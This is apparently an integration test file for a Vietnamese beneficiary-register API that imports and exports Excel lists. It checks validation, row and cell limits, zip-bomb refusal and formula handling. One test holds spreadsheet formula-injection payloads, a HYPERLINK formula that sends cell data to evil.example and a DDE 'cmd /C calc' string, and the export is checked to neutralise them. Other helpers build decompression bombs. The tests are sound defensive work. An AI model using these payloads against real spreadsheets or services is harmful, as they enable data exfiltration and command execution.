import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { registerExport } from '#read-models';
import {
  API_BACKENDS,
  caughtUp,
  client,
  countEvents,
  leavesLogUnchanged as leavesLogUnchangedIn,
  ok,
  type Reply,
  type RunningApi,
  signInPeople,
  startApi,
} from './testing/api-backends.fixture.js';
import { bombOf, entryOf, rowXml, SHEET, SHEET_HEAD, SHEET_TAIL, WORKBOOK_PARTS, workbookOf, zipOf } from '../../../test/support/workbook-files.js';

type Row = [string, string | Date | ExcelJS.CellFormulaValue, string | number, string, string, number | string, string | Date];

const HEADINGS = ['Họ và tên', 'Ngày sinh (dd/mm/yyyy)', 'Số định danh cá nhân (CCCD)', 'Chức vụ', 'Đơn vị', 'Đối tượng (1–6)', 'Hưởng từ ngày (dd/mm/yyyy)'];
const MiB = 1024 * 1024;
/** LibreOffice, when installed (Debian's libreoffice-calc): a second reader of the files the system writes. */
const LIBREOFFICE = spawnSync('soffice', ['--version']).status === 0;

/** A workbook as LibreOffice reads it, saved as UTF-8 CSV (the filter's options keep the Vietnamese). */
function libreOfficeCsv(file: Uint8Array): string {
  const folder = mkdtempSync(join(tmpdir(), 'hsb-libreoffice-'));
  try {
    writeFileSync(join(folder, 'book.xlsx'), file);
    const run = spawnSync(
      'soffice',
      [
        '--headless',
        `-env:UserInstallation=file://${folder}/profile`,
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76',
        '--outdir',
        folder,
        join(folder, 'book.xlsx'),
      ],
      { timeout: 60_000 },
    );
    if (run.status !== 0) throw new Error(`LibreOffice could not read the workbook: ${run.stderr.toString()}`);
    return readFileSync(join(folder, 'book.csv'), 'utf8');
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (_name, setup) => {
  let api: RunningApi;
  let as: Record<'admin' | 'clerk' | 'auditor', ReturnType<typeof client>>;
  let template: Buffer;
  const leavesLogUnchanged = (request: Promise<Reply>, status: number, expected: Record<string, unknown> = {}) =>
    leavesLogUnchangedIn(api, request, status, expected);
  const upload = (file: Uint8Array, query = '') => as.clerk.upload(`/beneficiaries/imports${query}`, file, 'danh-sach.xlsx');
  /** Uploads a list refused whole, nothing appended: its answer, having checked each problem as [row, field, code]. */
  async function refused(file: Uint8Array, problems: readonly (readonly [number, string, string])[]): Promise<Reply> {
    const reply = await leavesLogUnchanged(upload(file), 422, { outcome: 'rejected', imported: 0 });
    expect(reply.body.errors.map((e: { row: number; field: string; code: string }) => [e.row, e.field, e.code])).toEqual(problems);
    return reply;
  }

  /** The downloaded template with its example row replaced by `rows`. */
  async function listOf(rows: readonly Row[]): Promise<Uint8Array> {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(template as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    sheet.spliceRows(3, 1);
    rows.forEach((row, n) => {
      sheet.getRow(3 + n).values = row;
    });
    return new Uint8Array(await book.xlsx.writeBuffer());
  }

  beforeAll(async () => {
    api = await startApi(setup);
    as = await signInPeople(api, { clerk: ['lan', ['clerk']], auditor: ['kiem', ['auditor']] });
    const response = await as.clerk.download('/beneficiaries/imports/template');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toContain('mau-danh-sach-doi-tuong.xlsx');
    template = Buffer.from(await response.arrayBuffer());
  });
  afterAll(() => api.close());

  it('offers a template headed in Vietnamese and English', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(template as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet.getRow(1).values).toEqual([undefined, ...HEADINGS]);
    expect(sheet.getRow(2).getCell(1).value).toBe('Full name');
    expect(book.worksheets.map((s) => s.name)).toEqual(['Danh sách', 'Hướng dẫn - Instructions']);
  });

  it('imports a valid list once: importing it again records nothing', async () => {
    const list = await listOf([
      ['Hoàng Văn An', '12/05/1968', '020068000101', 'Bí thư Huyện ủy', 'Huyện Cao Lộc', 3, '01/01/2025'],
      // A date cell, and an id typed as a number that lost its leading zero.
      ['Lương Thị Bình', new Date(Date.UTC(1970, 2, 3)), 20170000202, 'Chủ tịch UBND huyện', 'Huyện Lộc Bình', 4, '01/01/2025'],
      ['Nông Văn Cường', '09/09/1975', '020075000303', 'Trưởng phòng cấp huyện', 'Huyện Văn Quan', '5', '01/01/2025'],
    ]);
    await leavesLogUnchanged(as.auditor.upload('/beneficiaries/imports', list, 'ds.xlsx'), 403);
    expect(await ok(as.clerk.upload('/beneficiaries/imports', list, 'danh-sach.xlsx'))).toMatchObject({
      outcome: 'imported',
      rows: 3,
      imported: 3,
      alreadyImported: 0,
      errors: [],
    });
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'danh-sach.xlsx'), 200, {
      outcome: 'imported',
      imported: 0,
      alreadyImported: 3,
      errors: [],
    });
    await caughtUp(api);
    const register = await ok(as.auditor.get('/beneficiaries?name=Lương'));
    expect(register.items).toEqual([
      expect.objectContaining({ fullName: 'Lương Thị Bình', nationalIdMasked: '020******202', group: 4, administrativeUnit: 'Huyện Lộc Bình' }),
    ]);
  });

  it('rejects a list with bad rows, naming each row and column in Vietnamese and English, and appends nothing; on request imports the valid rows', async () => {
    const list = await listOf([
      ['Vi Văn Dũng', '01/02/1980', '020080000404', 'Phó Chủ tịch UBND huyện', 'Huyện Chi Lăng', 4, '01/01/2025'],
      ['Hà Thị Em', '01/02/1981', '020080000505', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
      ['Lộc Văn Phúc', '03/03/1972', '020072000606', 'Trưởng phòng', 'Huyện Bắc Sơn', 7, '01/01/2025'],
      ['Triệu Văn Giang', '04/04/1980', '020080000404', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
      ['', '31/02/1980', '020080000707', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
      ['Hoàng Văn An', '12/05/1968', '020068000101', 'Bí thư Huyện ủy', 'Huyện Lộc Bình', 3, '01/01/2025'],
    ]);
    const rejected = await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'loi.xlsx'), 422, { outcome: 'rejected', imported: 0, rows: 6 });
    expect(rejected.body.errors.map((e: { row: number; field: string; code: string }) => [e.row, e.field, e.code])).toEqual([
      [4, 'nationalId', 'nationalId'],
      [5, 'group', 'group'],
      [6, 'nationalId', 'duplicateInFile'],
      [7, 'fullName', 'required'],
      [7, 'dateOfBirth', 'date'],
      // The same person as on the register (national id, name, date of birth), in another unit: a change, which the import does not record.
      [8, 'administrativeUnit', 'changed'],
    ]);
    expect(rejected.body.errors[1]).toMatchObject({
      vi: 'Đối tượng phải là số từ 1 đến 6, không phải "7"',
      en: 'The group must be a number from 1 to 6, not "7"',
    });
    expect(rejected.body.errors[2]).toMatchObject({ vi: 'Trùng số định danh với dòng 3', en: 'The same national id as row 3' });

    const before = await countEvents(api.runtime.store);
    const partial = await ok(as.clerk.upload('/beneficiaries/imports?validRowsOnly=true', list, 'loi.xlsx'));
    expect(partial).toMatchObject({ outcome: 'imported', rows: 6, imported: 1, skipped: 5 });
    // One enrolment: the national id reserved, then the beneficiary enrolled.
    expect(await countEvents(api.runtime.store)).toBe(before + 2);
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports?validRowsOnly=true', list, 'loi.xlsx'), 200, { imported: 0, alreadyImported: 1 });
  });

  it('refuses what is not the template, or no file at all', async () => {
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', new TextEncoder().encode('name,group\nAn,3\n'), 'list.csv'), 422, {
      outcome: 'rejected',
      errors: [expect.objectContaining({ field: 'file', code: 'layout', en: 'The file is not an Excel workbook (.xlsx)' })],
    });
    await leavesLogUnchanged(as.clerk.post('/beneficiaries/imports', {}), 400, { fields: [expect.objectContaining({ field: 'file' })] });
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports?validRowsOnly=maybe', await listOf([]), 'x.xlsx'), 400, {
      fields: [expect.objectContaining({ field: 'validRowsOnly' })],
    });
  });

  it('reads a sheet by the rows it holds: one cell at row 3,000,000 is one row, not three million', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Danh sách');
    sheet.addRow(HEADINGS);
    sheet.getCell('A3000000').value = 'Hoàng Văn An';
    const file = new Uint8Array(await book.xlsx.writeBuffer());
    expect(file.length).toBeLessThan(10_000);
    const rejected = await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', file, 'xa.xlsx'), 422, { outcome: 'rejected', rows: 1 });
    expect(new Set(rejected.body.errors.map((error: { row: number }) => error.row))).toEqual(new Set([3_000_000]));
  });

  it('refuses a sheet of more rows or cells than configured, naming the limit, and appends nothing', async () => {
    const people = Array.from({ length: 10_000 }, (_, n) => rowXml(n + 2, [`Người ${n}`])).join('');
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', workbookOf(rowXml(1, HEADINGS) + people), 'dai.xlsx'), 422, {
      error: 'Unprocessable Entity',
      rule: 'TooManyRows',
      limit: 'IMPORT_MAX_ROWS',
      max: 10_000,
      fields: [{ field: 'file', message: expect.stringContaining('10,000 rows') }],
    });
    const wide = Array.from({ length: 7 }, (_, n) =>
      rowXml(
        n + 2,
        Array.from({ length: 16_384 }, () => 'x'),
      ),
    ).join('');
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', workbookOf(rowXml(1, HEADINGS) + wide), 'rong.xlsx'), 422, {
      rule: 'TooManyCells',
      limit: 'IMPORT_MAX_CELLS',
      max: 100_000,
    });
  });

  it('refuses a sheet declared larger than the limit without inflating it, and one that inflates past the limit whatever it declares', async () => {
    const headings = `${SHEET_HEAD}${rowXml(1, HEADINGS)}`;
    // Inflates to a few hundred bytes: only the central directory's figure can refuse it.
    const declaredLarge = { ...entryOf(SHEET, `${headings}${SHEET_TAIL}`), declaredSize: 500 * MiB };
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', zipOf([...WORKBOOK_PARTS, declaredLarge]), 'lon.xlsx'), 422, {
      rule: 'SheetTooLarge',
      limit: 'IMPORT_MAX_SHEET_BYTES',
      max: 16 * MiB,
      fields: [{ field: 'file', message: expect.stringContaining('xl/worksheets/sheet1.xml') }],
    });
    // 500 MiB of blank space in a file of a few hundred KiB, declaring a harmless size.
    const bomb = bombOf(SHEET, { head: headings, middle: ' '.repeat(MiB), times: 500, tail: SHEET_TAIL }, 4096);
    const file = zipOf([...WORKBOOK_PARTS, bomb]);
    expect(file.length).toBeLessThan(MiB);
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', file, 'bom.xlsx'), 422, { rule: 'SheetTooLarge', limit: 'IMPORT_MAX_SHEET_BYTES' });
  });

  it("takes a formula cell's cached value, and refuses the row of a formula without one, naming its row and column", async () => {
    const list = await listOf([
      ['Hoàng Thị Hoa', { formula: 'DATE(1985,3,4)', result: '04/03/1985' }, '020185000808', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
      ['Vi Văn Khánh', { formula: 'CONCATENATE("01/0","2/1986")' }, '020086000909', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
    ]);
    const rejected = await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'cong-thuc.xlsx'), 422, { outcome: 'rejected', rows: 2 });
    expect(rejected.body.errors).toEqual([
      expect.objectContaining({ row: 4, field: 'dateOfBirth', code: 'formula', en: expect.stringContaining('row 4, column B') }),
    ]);
    expect(await ok(as.clerk.upload('/beneficiaries/imports?validRowsOnly=true', list, 'cong-thuc.xlsx'))).toMatchObject({ imported: 1, skipped: 1 });
    await caughtUp(api);
    expect((await ok(as.auditor.get('/beneficiaries?name=Hoàng Thị Hoa'))).items).toEqual([expect.objectContaining({ dateOfBirth: '1985-03-04' })]);
  });

  it('exports the register with every text cell that could run as a formula neutralised, and takes the export back as it is', async () => {
    const list = await listOf([
      ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '05/05/1985', '020085000505', "+cmd|' /C calc'!A0", 'Huyện Bắc Sơn', 4, '01/01/2025'],
      ['-2+3', '06/06/1986', '020086000606', '@SUM(1+1)', 'Huyện Bắc Sơn', 4, '01/01/2025'],
    ]);
    await ok(as.clerk.upload('/beneficiaries/imports', list, 'doc-hai.xlsx'));
    await caughtUp(api);

    const csv = ((await registerExport(api.runtime.pool, 'csv')).body as string).split('\r\n');
    expect(csv.find((line) => line.includes('020085000505'))).toMatch(
      /^"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""Xem""\)",05\/05\/1985,020085000505,'\+cmd\|' \/C calc'!A0,Huyện Bắc Sơn,4,01\/01\/2025,registered,/,
    );
    expect(csv.find((line) => line.includes('020086000606'))).toMatch(/^'-2\+3,06\/06\/1986,020086000606,'@SUM\(1\+1\),Huyện Bắc Sơn,4,/);

    const exported = (await registerExport(api.runtime.pool, 'xlsx')).body as Buffer;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported as unknown as ArrayBuffer);
    const rows = book.worksheets[0].getSheetValues().filter((row) => Array.isArray(row) && row.includes('020085000505'));
    expect(rows).toEqual([
      [
        undefined,
        `'=HYPERLINK("http://evil.example/?"&A1,"Xem")`,
        '05/05/1985',
        '020085000505',
        "'+cmd|' /C calc'!A0",
        'Huyện Bắc Sơn',
        4,
        '01/01/2025',
        'registered',
        expect.any(String),
      ],
    ]);
    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', new Uint8Array(exported), 'so-dang-ky.xlsx'), 200, {
      outcome: 'imported',
      imported: 0,
      errors: [],
    });
  });

  it('refuses a text date not written dd/mm/yyyy, naming its row, column and value, and takes Excel date cells', async () => {
    const list = await listOf([
      ['Lăng Văn Bảo', '05/03/1979', '020079001001', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '2024-03-05'],
      ['Lăng Thị Châu', '5/3/79', '020179001002', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
      ['Lăng Văn Đạt', '31/02/1979', '020079001003', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
      ['Lăng Thị Êm', new Date(Date.UTC(1979, 2, 5)), '020179001004', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, new Date(Date.UTC(2025, 0, 1))],
    ]);
    const rejected = await refused(list, [
      [3, 'from', 'date'],
      [4, 'dateOfBirth', 'date'],
      [5, 'dateOfBirth', 'date'],
    ]);
    expect(rejected.body.errors[0]).toMatchObject({
      vi: '"Hưởng từ ngày (dd/mm/yyyy)" (dòng 3, cột G) phải là ngày dd/mm/yyyy, không phải "2024-03-05"',
      en: '"Covered from" (row 3, column G) must be a date dd/mm/yyyy, not "2024-03-05"',
    });
    expect(rejected.body.errors[1]).toMatchObject({ en: '"Date of birth" (row 4, column B) must be a date dd/mm/yyyy, not "5/3/79"' });

    const before = await countEvents(api.runtime.store);
    expect(await ok(upload(list, '?validRowsOnly=true'))).toMatchObject({ outcome: 'imported', imported: 1, skipped: 3 });
    expect(await countEvents(api.runtime.store)).toBe(before + 2);
    await caughtUp(api);
    expect((await ok(as.auditor.get('/beneficiaries?name=Lăng Thị Êm'))).items).toEqual([
      expect.objectContaining({ dateOfBirth: '1979-03-05', enrolledFrom: '2025-01-01' }),
    ]);
  });

  it('refuses a unit the registry does not hold on the covered-from date, by code or name, naming its row, column and value', async () => {
    const list = await listOf([
      ['Mã Văn Giỏi', '01/01/1980', '020080002001', 'Trưởng phòng', 'Huyện Không Có', 5, '01/01/2025'],
      // The communes of the two-tier local government exist from 2025-07-01, when the districts end.
      ['Mã Thị Hằng', '01/01/1980', '020180002002', 'Trưởng phòng', 'Xã Cao Lộc', 5, '01/01/2025'],
      ['Mã Văn Ích', '01/01/1980', '020080002003', 'Trưởng phòng', 'Huyện Cao Lộc', 5, '01/08/2025'],
      ['Mã Thị Kim', '01/01/1980', '020180002004', 'Trưởng phòng', 'Xã Cao Lộc', 5, '01/08/2025'],
    ]);
    const rejected = await refused(list, [
      [3, 'administrativeUnit', 'unit'],
      [4, 'administrativeUnit', 'unit'],
      [5, 'administrativeUnit', 'unit'],
    ]);
    expect(rejected.body.errors[0]).toMatchObject({
      vi: '"Đơn vị" (dòng 3, cột E): "Huyện Không Có" không phải là đơn vị hành chính đã đăng ký còn hiệu lực ngày 01/01/2025',
      en: '"Administrative unit" (row 3, column E): "Huyện Không Có" is not a registered administrative unit in force on 01/01/2025',
    });
    expect(await ok(upload(list, '?validRowsOnly=true'))).toMatchObject({ outcome: 'imported', imported: 1, skipped: 3 });

    // A unit renamed since it was created is found by the name it bore on the day, and recorded under its code.
    await ok(
      as.admin.post('/administrative-units/changes', { changes: [{ kind: 'renamed', code: 'Xã Na Sầm', name: 'Phường Na Sầm', from: '2026-01-01' }] }),
      201,
    );
    const renamed = await listOf([
      ['Mã Văn Long', '01/01/1980', '020080002005', 'Trưởng phòng', 'Phường Na Sầm', 5, '01/02/2026'],
      ['Mã Thị Mơ', '01/01/1980', '020180002006', 'Trưởng phòng', 'Phường Na Sầm', 5, '01/12/2025'],
    ]);
    await refused(renamed, [[4, 'administrativeUnit', 'unit']]);
    expect(await ok(upload(renamed, '?validRowsOnly=true'))).toMatchObject({ imported: 1 });
    await caughtUp(api);
    expect((await ok(as.auditor.get('/beneficiaries?name=Mã Văn Long'))).items).toEqual([expect.objectContaining({ administrativeUnit: 'Xã Na Sầm' })]);
  });

  it('imports its own register export back: everyone on it, however enrolled or changed since, is unchanged and nothing is recorded', async () => {
    // Enrolled by hand rather than from a list, then moved and reclassified by the 2025 reorganization.
    const enrolment = {
      fullName: 'Đinh Văn Lâm',
      dateOfBirth: '1966-04-02',
      nationalId: '020066003001',
      title: 'Bí thư Huyện ủy',
      administrativeUnit: 'Huyện Đình Lập',
      group: 3,
      from: '2025-01-01',
    };
    const { beneficiaryId } = await ok(as.clerk.post('/beneficiaries', enrolment), 201);
    await ok(
      as.clerk.post(`/beneficiaries/${beneficiaryId}/position-changes`, { title: 'Bí thư Đảng ủy xã', administrativeUnit: 'Xã Đình Lập', from: '2025-07-01' }),
    );
    await ok(
      as.clerk.post(`/beneficiaries/${beneficiaryId}/reclassifications`, {
        group: 4,
        from: '2025-07-01',
        reason: 'Chính quyền hai cấp',
        decisionNumber: '01/QĐ-UBND',
      }),
    );
    const { beneficiaryId: erased } = await ok(as.clerk.post('/beneficiaries', { ...enrolment, fullName: 'Đinh Thị Mai', nationalId: '020166003002' }), 201);
    await ok(as.admin.post(`/beneficiaries/${erased}/erasure`, { reason: 'Request under the Personal Data Protection Law' }));
    await caughtUp(api);

    const { rows: people, body } = await registerExport(api.runtime.pool, 'xlsx');
    const exported = new Uint8Array(body as Buffer);
    expect(people).toBeGreaterThan(10);
    await leavesLogUnchanged(upload(exported), 200, { outcome: 'imported', rows: people, imported: 0, alreadyImported: people, skipped: 0, errors: [] });

    // A second reader: exceljs reading the whole workbook (not the import's streaming reader) sees the register.
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet.rowCount).toBe(people + 1);
    expect(sheet.getRow(1).values).toEqual([undefined, ...HEADINGS, 'Trạng thái', 'Mã đối tượng']);
    expect(sheet.getSheetValues().find((row) => Array.isArray(row) && row.includes(beneficiaryId))).toEqual([
      undefined,
      'Đinh Văn Lâm',
      '02/04/1966',
      '020066003001',
      'Bí thư Đảng ủy xã',
      'Xã Đình Lập',
      4,
      '01/01/2025',
      'registered',
      beneficiaryId,
    ]);
  });

  (LIBREOFFICE ? it : it.skip)('writes a register export that LibreOffice reads, headings and Vietnamese intact', async () => {
    const { rows: people, body } = await registerExport(api.runtime.pool, 'xlsx');
    const lines = libreOfficeCsv(new Uint8Array(body as Buffer))
      .trimEnd()
      .split('\n');
    expect(lines[0]).toBe([...HEADINGS, 'Trạng thái', 'Mã đối tượng'].join(','));
    expect(lines).toHaveLength(people + 1);
    expect(lines.find((line) => line.includes('020066003001'))).toMatch(
      /^Đinh Văn Lâm,02\/04\/1966,020066003001,Bí thư Đảng ủy xã,Xã Đình Lập,4,01\/01\/2025,registered,/,
    );
  });

  it('refuses a row that differs from the register, naming each column that differs, and one naming a beneficiary id not on the register', async () => {
    const { body } = await registerExport(api.runtime.pool, 'xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(body as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    const lam = sheet.getColumn(3).values.findIndex((value) => value === '020066003001');
    sheet.getRow(lam).getCell(4).value = 'Chủ tịch UBND xã';
    sheet.getRow(lam).getCell(6).value = 5;
    const stranger = sheet.rowCount + 1;
    sheet.getRow(stranger).values = [
      'Ngô Văn Nam',
      '01/01/1970',
      '020070003003',
      'Trưởng phòng',
      'Huyện Cao Lộc',
      5,
      '01/01/2025',
      'registered',
      'khong-co-ai',
    ];
    const file = new Uint8Array(await book.xlsx.writeBuffer());

    const rejected = await refused(file, [
      [lam, 'title', 'changed'],
      [lam, 'group', 'changed'],
      [stranger, 'beneficiaryId', 'unknownBeneficiary'],
    ]);
    expect(rejected.body.errors[0]).toMatchObject({
      vi: `"Chức vụ" (dòng ${lam}, cột D) khác với danh sách đối tượng: "Chủ tịch UBND xã" trong tệp, "Bí thư Đảng ủy xã" trong danh sách; nhập danh sách không ghi thay đổi, hãy ghi thay đổi chức vụ hoặc phân loại lại`,
      en: `"Title" (row ${lam}, column D) differs from the register: "Chủ tịch UBND xã" in the file, "Bí thư Đảng ủy xã" on the register; an import records no changes: record a position change or a reclassification`,
    });
    expect(rejected.body.errors[2]).toMatchObject({ en: `"Beneficiary id" (row ${stranger}, column I): no beneficiary "khong-co-ai" on the register` });
    // The other rows are unchanged: with only the valid rows asked for, still nothing is recorded.
    await leavesLogUnchanged(upload(file, '?validRowsOnly=true'), 200, { outcome: 'imported', imported: 0, skipped: 2 });
  });
});
